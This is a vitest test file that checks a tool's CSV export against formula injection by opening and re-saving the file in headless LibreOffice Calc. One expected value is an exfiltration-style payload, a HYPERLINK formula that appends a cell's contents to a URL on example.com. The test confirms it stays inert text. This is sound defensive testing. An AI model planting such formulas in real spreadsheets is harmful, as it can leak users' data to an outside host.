// What export writes, opened and saved by a real spreadsheet: LibreOffice Calc, headless, reads
// the CSV as a person opening it would (formulas evaluated, dates and other special numbers
// detected), with the columns docs/spreadsheets.md says to read as Text, and saves it back as
// CSV; hypo imports that file, and every record is exactly what it was. CI installs LibreOffice
// (.ci/run); on a machine without it this test says so and is skipped.
import { execFile } from 'node:child_process';
import { appendFileSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseCsvText } from '../../src/store/parse-csv.js';
import { SPREADSHEET_HAZARDS } from '../helpers/records.js';
import { runCli } from '../helpers/run-cli.js';
import { makeRepo, makeTempDir } from '../helpers/temp-repo.js';

const SOFFICE = '/usr/bin/soffice';
const hasLibreOffice = existsSync(SOFFICE);
if (!hasLibreOffice) {
  console.warn(
    `No LibreOffice at ${SOFFICE}: the spreadsheet round trip is skipped here (apt-get install -y --no-install-recommends libreoffice-calc-nogui to run it; CI always does).`,
  );
}

/** The columns docs/spreadsheets.md says to import as Text, because they hold leading zeros and fractions. */
const TEXT_COLUMNS = ['segment', 'journey'];

/**
 * LibreOffice's CSV filter options: comma, double quotes, UTF-8 (76), from line 1, a format per
 * column (1 standard, 2 text), default language, quoted fields not forced to text, special
 * numbers detected, and formulas evaluated (the 13th), as a spreadsheet opening a file would.
 */
function importFilter(header: readonly string[]): string {
  const formats = header.map((column, index) => `${index + 1}/${TEXT_COLUMNS.includes(column) ? 2 : 1}`).join('/');
  return `CSV:44,34,76,1,${formats},0,false,true,false,false,false,-1,true`;
}

function recordsIn(folder: string): Record<string, unknown> {
  return Object.fromEntries(
    readdirSync(folder)
      .filter((name) => name.endsWith('.yaml'))
      .map((name) => [name, parse(readFileSync(path.join(folder, name), 'utf8'))]),
  );
}

describe.skipIf(!hasLibreOffice)('a CSV export opened and saved again in LibreOffice Calc', () => {
  it('holds no cell the spreadsheet evaluates, and imports back as the exact records', { timeout: 180_000 }, async () => {
    const source = makeRepo(SPREADSHEET_HAZARDS);
    expect((await runCli(['-C', source.root, 'export', '--kind', 'hypothesis', '--out', 'hazards.csv'])).code).toBe(0);
    const exported = path.join(source.root, 'hazards.csv');
    const { header } = parseCsvText(readFileSync(exported, 'utf8'), exported);
    // A row as a spreadsheet would get it without hypo: it shows that this LibreOffice evaluates
    // formulas and reads 0012 and 1/2 as numbers in a standard column, so the records' survival means something.
    appendFileSync(exported, 'control,hypothesis,,=1+1,0012,,,,1/2\r\n');

    const saved = makeTempDir('hypo-libreoffice-');
    const profile = pathToFileURL(makeTempDir('hypo-libreoffice-profile-')).href;
    await promisify(execFile)(
      SOFFICE,
      [
        `-env:UserInstallation=${profile}`,
        '--headless',
        '--norestore',
        `--infilter=${importFilter(header)}`,
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1',
        '--outdir',
        saved,
        exported,
      ],
      { timeout: 150_000 },
    );
    const resaved = readFileSync(path.join(saved, 'hazards.csv'), 'utf8');
    const rows = parseCsvText(resaved, 'hazards.csv').rows;
    const control = rows.pop()!.cells;
    expect(control.slice(0, 5)).toEqual(['control', 'hypothesis', '', '2', '12']);
    expect(control[8]).not.toBe('1/2');
    // The spreadsheet held hypo's cells as text, quote and all.
    expect(rows[0]!.cells.slice(3, 5)).toEqual(['\'=HYPERLINK("https://example.com/?d="&B2,"Öppna")', "'=1+1"]);

    const target = makeRepo({}, { config: false, git: true });
    expect((await runCli(['-C', target.root, 'init'])).code).toBe(0);
    const sheet = path.join(target.root, 'from-calc.csv');
    target.write('from-calc.csv', resaved.slice(0, resaved.lastIndexOf('"control"')));
    const imported = await runCli(['-C', target.root, 'import', 'csv', sheet, '--kind', 'hypothesis']);
    expect(imported.code).toBe(0);
    // Saved all the same; the quality rules warn of the two statements that give no reason.
    expect(imported.stderr.match(/column statement: warning the statement gives no reason/g)).toHaveLength(2);
    expect(recordsIn(path.join(target.root, 'learning/hypotheses'))).toEqual(recordsIn(path.join(source.root, 'learning/hypotheses')));
  });
});
